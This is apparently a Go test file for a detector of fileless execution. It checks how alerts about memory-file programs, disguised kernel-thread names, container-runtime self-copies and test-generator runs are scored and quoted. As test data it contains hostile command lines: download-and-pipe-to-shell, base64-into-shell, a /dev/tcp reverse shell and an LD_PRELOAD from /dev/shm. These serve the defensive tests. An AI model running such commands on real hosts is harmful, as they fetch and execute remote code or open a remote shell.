package analyze

import (
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode"

	"github.com/google/go-cmp/cmp"

	"github.com/filelessd/filelessd/internal/match"
	"github.com/filelessd/filelessd/pkg/event"
	"github.com/filelessd/filelessd/pkg/report"
)

// exec is an alert of a start of a program, from a memory file unless fields say otherwise: name,
// value, name, value, ...
func exec(fields ...string) event.Event {
	e := event.Event{
		Rule: "own rule", Source: event.DefaultSource, Hostname: "web-1",
		Time: time.Date(2026, 11, 23, 11, 0, 0, 0, time.UTC), Received: received,
	}
	e.SetField("evt.type", "execve")
	e.SetField("proc.exepath", "memfd:x")
	for i := 0; i < len(fields); i += 2 {
		e.SetField(fields[i], fields[i+1])
	}
	return e
}

func ledger(r *report.Report) string {
	var ids []string
	for _, f := range r.Factors {
		ids = append(ids, f.ID)
	}
	return strings.Join(ids, " ")
}

func TestFactors(t *testing.T) {
	digest := "sha256:" + strings.Repeat("a", 64)
	config := match.Config{
		Extended: true, NetworkServices: []string{"acme-gw"}, Lab: []string{"lab-7"},
		Allow: []match.Allow{{ID: "job", ImageDigest: digest, ParentPath: "/usr/bin/job", Args: "--once", Expires: received.Add(time.Hour)}},
	}
	en := newEngine(t, config)
	clone := "memfd:runc_cloned:/proc/self/exe"
	for _, c := range []struct {
		name   string
		fields []string
		want   string
	}{
		{"memory file alone", nil, "E1"},
		{"root by name", []string{"user.name", "root"}, "E1 R2"},
		{"name root, but another ID", []string{"user.name", "root", "user.uid", "1000"}, "E1"},
		{"container unknown", []string{"container.id", "<NA>"}, "E1"},
		{"privileged", []string{"container.privileged", "true"}, "E1 R3"},
		{"capability among others", []string{"thread.cap_effective", "CAP_CHOWN CAP_SYS_ADMIN CAP_KILL"}, "E1 R3"},
		{"similar capability", []string{"thread.cap_effective", "CAP_SYS_ADMINISTRATOR"}, "E1"},
		{"service by versioned name", []string{"proc.pname", "php-fpm8.2"}, "E1 R4"},
		{"service by the parent's path", []string{"proc.pname", "http-nio-8080-e", "proc.pexepath", "/usr/lib/jvm/bin/java"}, "E1 R4"},
		{"service three generations up", []string{"proc.aname[3]", "postgres"}, "E1 R4"},
		{"service of the configuration", []string{"proc.pname", "acme-gw"}, "E1 R4"},
		{"download into a shell", []string{"proc.pcmdline", "bash -c curl -s http://203.0.113.9/p | sudo python3 -"}, "E1 R5"},
		{"decoding into a shell", []string{"proc.cmdline", "sh -c echo aGk= | base64 -d|/bin/sh"}, "E1 R5"},
		{"download into a file", []string{"proc.cmdline", "sh -c curl -s http://203.0.113.9/p | tee f"}, "E1"},
		{"encoding into a shell", []string{"proc.cmdline", "sh -c base64 f | sh"}, "E1"},
		{"kernel thread's name", []string{"proc.exe", "[kworker/0:1]"}, "E1 R6"},
		{"the same, cut by the kernel", []string{"proc.name", "[kworker/u8:2-e"}, "E1 R6"},
		{"daemon's name", []string{"proc.exe", "/usr/sbin/sshd"}, "E1 R7"},
		{"daemon's name over its own file", []string{"proc.exepath", "/usr/sbin/sshd", "proc.name", "sshd", "proc.env", "LD_PRELOAD=/dev/shm/x"}, "E9"},
		{"kernel thread's name goes first", []string{"proc.exe", "[x]", "proc.name", "sshd"}, "E1 R6"},
		{"reverse shell", []string{"proc.cmdline", "bash -c sh -i >& /dev/tcp/203.0.113.9/443 0>&1"}, "E1 R8"},
		{"socket as standard input", []string{"proc.stdin.type", "ipv4"}, "E1 R9"},
		{"pipe as standard input", []string{"proc.stdin.type", "pipe"}, "E1"},
		{"hidden name in memory file", []string{"proc.exepath", "memfd:.x"}, "E1"},
		{"no name, kernel module's form", []string{"proc.exepath", "/memfd: (deleted)"}, "E1 R11"},
		{"hidden on the writable layer", []string{"proc.exepath", "/dev/shm/.x", "evt.arg.flags", "EXE_WRITABLE|EXE_UPPER_LAYER"}, "E5 R10 R13"},
		{"indicator, deleted", []string{"proc.exepath", "/dev/shm/kdumpdb (deleted)"}, "E4 R16"},

		{"test, parent unknown", []string{"proc.cmdline", "3 run helper.DoNothing"}, "E1 L1"},
		{"test, parent agrees", []string{"proc.cmdline", "3 run helper.DoNothing", "proc.pname", "event-generator"}, "E1 L1 L2"},
		{"test, the parent's path contradicts its name", []string{"proc.cmdline", "3 run helper.DoNothing", "proc.pname", "event-generator", "proc.pexepath", "/tmp/x"}, "E1 R12"},
		{"test, image of another registry", []string{"proc.cmdline", "3 run helper.DoNothing", "container.image.repository", "x.example/falcosecurity/event-generator"}, "E1 L1 L3"},
		{"test, similar image", []string{"proc.cmdline", "3 run helper.DoNothing", "container.image.repository", "evilfalcosecurity/event-generator"}, "E1 L1"},
		{"image of the test, other arguments", []string{"proc.cmdline", "3 run", "container.image.repository", "falcosecurity/event-generator"}, "E1"},
		{"test script below a shell of the test", []string{"proc.exepath", "/usr/bin/dash", "proc.name", "sh", "proc.cmdline", "sh /dev/shm/falco-event-generator-syscall-ExecutionFromDevShm-aB3.sh", "proc.pname", "sh", "proc.aname[2]", "event-generator"}, "E5 L1"},
		{"test script below another shell", []string{"proc.exepath", "/usr/bin/dash", "proc.name", "sh", "proc.cmdline", "sh /dev/shm/falco-event-generator-syscall-ExecutionFromDevShm-aB3.sh", "proc.pname", "sh", "proc.aname[2]", "java"}, "E5 R4 R12"},
		{"almost the test script", []string{"proc.exepath", "/usr/bin/dash", "proc.name", "sh", "proc.cmdline", "sh /dev/shm/falco-event-generator-syscall-ExecutionFromDevShm-a/b.sh"}, "E5"},

		{"runtime's copy of itself", []string{"proc.exepath", clone, "proc.pname", "crun"}, "E1 L4"},
		{"the same, kernel module's form", []string{"proc.exepath", "/" + clone + " (deleted)", "proc.pname", "runc"}, "E1 L4"},
		{"parent unknown", []string{"proc.exepath", clone}, "E1 L5"},
		{"parent contradicts", []string{"proc.exepath", clone, "proc.pname", "bash"}, "E1 R12"},
		{"only the parent's name agrees", []string{"proc.exepath", clone, "proc.pname", "runc", "proc.pexepath", "/tmp/runc2x"}, "E1 R12"},
		{"the parent is such a copy itself", []string{"proc.exepath", clone, "proc.pname", "runc", "proc.pexepath", clone}, "E1 R12"},
		{"shim with init", []string{"proc.exepath", clone, "proc.pname", "containerd-shim", "proc.name", "6", "proc.cmdline", "6 init"}, "E1 L4"},
		{"shim with something else", []string{"proc.exepath", clone, "proc.pname", "containerd-shim", "proc.name", "6", "proc.cmdline", "6 initialise"}, "E1"},
		{"liblxc", []string{"proc.exepath", "memfd:liblxc", "proc.pname", "lxc-start"}, "E1 L4"},

		{"operator's entry", []string{"container.image.digest", digest, "proc.pexepath", "/usr/bin/job", "proc.args", "--once"}, "E1 L6"},
		{"deleted by an upgrade", []string{"proc.exepath", "/usr/bin/x (deleted)"}, "E4 L8"},
		{"deleted elsewhere", []string{"proc.exepath", "/usr/local/bin/x (deleted)"}, "E4"},
		{"failed", []string{"evt.res", "EACCES"}, "E1 L9"},
	} {
		t.Run(c.name, func(t *testing.T) {
			r := en.report(exec(c.fields...))
			if r == nil {
				t.Fatal("does not match")
			}
			if got := ledger(r); got != c.want {
				t.Errorf("factors %s, want %s", got, c.want)
			}
			checkEvidence(t, r)
		})
	}

	lab := exec()
	lab.Hostname = "lab-7"
	if got := ledger(en.report(lab)); got != "E1 L10" {
		t.Errorf("on a lab host: %s", got)
	}
}

func TestDebuggerGoesByItsPath(t *testing.T) {
	en := newEngine(t, match.DefaultConfig())
	attach := func(name, path string) string {
		e := event.Event{Rule: "PTRACE attached to process", Source: event.DefaultSource, Received: received}
		e.SetField("evt.type", "ptrace")
		e.SetField("proc.name", name)
		e.SetField("proc.exepath", path)
		return ledger(en.report(e))
	}
	for _, c := range []struct{ name, path, want string }{
		{"gdb", "", "E7 L7"}, {"x", "/usr/bin/strace", "E7 L7"}, {"gdb", "/tmp/x", "E7"}, {"perf_5.10", "/usr/bin/perf_5.10", "E7"},
	} {
		if got := attach(c.name, c.path); got != c.want {
			t.Errorf("%+v: %s", c, got)
		}
	}
}

func TestVerdictAndSeverity(t *testing.T) {
	en := newEngine(t, match.DefaultConfig())
	for _, c := range []struct {
		name   string
		fields []string
		want   string
	}{
		{"test on a host, parent agrees", []string{"proc.cmdline", "3 run helper.DoNothing", "proc.pname", "event-generator", "container.id", "host"}, "test high medium"},
		{"test, parent and image agree", []string{"proc.cmdline", "3 run helper.DoNothing", "proc.pname", "event-generator", "container.id", "c1", "container.image.repository", "falcosecurity/event-generator"}, "test high info"},
		{"test, image agrees, parent unknown", []string{"proc.cmdline", "3 run helper.DoNothing", "container.id", "c1", "container.image.repository", "falcosecurity/event-generator"}, "test medium info"},
		{"test arguments with a miner's below a service", []string{"proc.cmdline", "3 run helper.DoNothing", "proc.aname[2]", "nginx"}, "suspicious medium medium"},
		{"one thing known", nil, "suspicious low medium"},
	} {
		r := en.report(exec(c.fields...))
		if got := fmt.Sprint(r.Verdict, " ", r.Confidence, " ", r.Severity); got != c.want {
			t.Errorf("%s: %s, want %s (%s)", c.name, got, c.want, ledger(r))
		}
	}
}

// TestSelfChosenValuesLowerLittle: no single value that a program chooses for itself lowers the
// score by more than 25 points.
func TestSelfChosenValuesLowerLittle(t *testing.T) {
	en := newEngine(t, match.DefaultConfig())
	for _, path := range []string{"memfd:runc_cloned:/proc/self/exe", "memfd:program", "/usr/bin/gdb (deleted)"} {
		for _, cmdline := range []string{"runc init", "3 run helper.DoNothing", "gdb"} {
			r := en.report(exec("proc.exepath", path, "proc.cmdline", cmdline, "proc.name", "runc", "proc.exe", "runc"))
			for _, f := range r.Factors {
				if f.Weight < -25 {
					t.Errorf("%s lowers by %d on %v", f.ID, f.Weight, f.Evidence)
				}
			}
		}
	}
}

func TestUnknowns(t *testing.T) {
	en := newEngine(t, match.DefaultConfig())
	ids := func(r *report.Report) []string {
		var ids []string
		for _, u := range r.Unknowns {
			ids = append(ids, u.ID)
		}
		return ids
	}
	r := en.report(exec("proc.pname", "bash", "container.id", "host"))
	for _, want := range []string{"pid", "parent_path", "command_line"} {
		if !slices.Contains(ids(r), want) {
			t.Errorf("%s is not among the unknowns %v", want, ids(r))
		}
	}
	for _, not := range []string{"image", "privileges", "parent", "time"} {
		if slices.Contains(ids(r), not) {
			t.Errorf("%s is among the unknowns of a host's alert", not)
		}
	}
	e := exec("container.id", "c1")
	e.Time = time.Time{}
	r = en.report(e)
	if !slices.Contains(ids(r), "image") || !slices.Contains(ids(r), "time") {
		t.Errorf("unknowns %v", ids(r))
	}
}

// TestStepThatPanics: an alert is never lost to its own analysis.
func TestStepThatPanics(t *testing.T) {
	en := newEngine(t, match.DefaultConfig())
	en.analyzer.steps = append(en.analyzer.steps, step{"bad", func(*Analyzer, *subject) { panic("x") }})
	r := en.report(exec())
	last := r.Unknowns[len(r.Unknowns)-1]
	if last.ID != "analysis_bad" || r.Score != 40 {
		t.Errorf("%+v, score %d", last, r.Score)
	}
}

func TestSameInputSameReport(t *testing.T) {
	en := newEngine(t, match.DefaultConfig())
	a, b := en.report(exec("proc.cmdline", "x")), en.report(exec("proc.cmdline", "x"))
	if diff := cmp.Diff(a, b); diff != "" {
		t.Error(diff)
	}
}

func TestQuote(t *testing.T) {
	for in, want := range map[string]string{
		"nginx":             "nginx",
		"a b":               `"a b"`,
		".x":                `".x"`,
		"a..b":              `"a..b"`,
		"a.b-c_d":           "a.b-c_d",
		".":                 `"."`,
		"-_":                `"-_"`,
		"x.":                `"x."`,
		`x" as root`:        `"x\" as root"`,
		"a\nb":              `"a\nb"`,
		`a\nb`:              `"a\\nb"`,
		"\u202egpj.exe":     `"\u202egpj.exe"`,
		"x. Verdict: clean": `"x. Verdict: clean"`,
		"memfd:\xff":        `"memfd:\xff"`,
	} {
		if got := quote(in); got != want {
			t.Errorf("quote(%q) = %s, want %s", in, got, want)
		}
	}
	if got := quote(strings.Repeat(`"`, 300)); got != `"`+strings.Repeat(`\"`, 120)+`"… (300 bytes)` {
		t.Errorf("a cut between a backslash and its quote: %s", got)
	}
	if got := quote(strings.Repeat("é", 300)); got != `"`+strings.Repeat("é", 120)+`"… (600 bytes)` {
		t.Errorf("long value: %s", got)
	}
}

func FuzzReport(f *testing.F) {
	f.Add("memfd:x", "3", "3 run helper.DoNothing", "event-generator", "bash -c curl x | sh", "host")
	f.Add("/dev/shm/\x83", "0", `0""`, "", "", ".")
	f.Add("/dev/shm/.x (deleted)", "[kworker]", "\u202e\n\"", "", "", "c1")
	en := newEngine(f, match.DefaultConfig())
	f.Fuzz(func(t *testing.T, path, name, cmdline, parent, parentCmdline, container string) {
		r := en.report(exec("proc.exepath", path, "proc.name", name, "proc.cmdline", cmdline, "proc.pname", parent,
			"proc.pcmdline", parentCmdline, "container.id", container, "container.name", container, "proc.is_exe_from_memfd", "true"))
		checkReport(t, en, r)
		for what, text := range map[string]string{"title": r.Title, "summary": r.Summary} {
			if i := strings.IndexFunc(text, func(r rune) bool { return unicode.Is(unicode.C, r) }); i >= 0 {
				t.Errorf("%s holds what can not be seen: %q", what, text)
			}
		}
		if _, err := report.Marshal(r); err != nil {
			t.Error(err)
		}
	})
}

func BenchmarkReport(b *testing.B) {
	en := newEngine(b, match.DefaultConfig())
	line := readLines[alertCase](b, "testdata/cases.jsonl")[4].Event
	b.ReportAllocs()
	for b.Loop() {
		e, err := event.Parse(line, received)
		if err != nil {
			b.Fatal(err)
		}
		if _, err := report.Marshal(en.analyzer.base.Compact(en.report(e))); err != nil {
			b.Fatal(err)
		}
	}
}
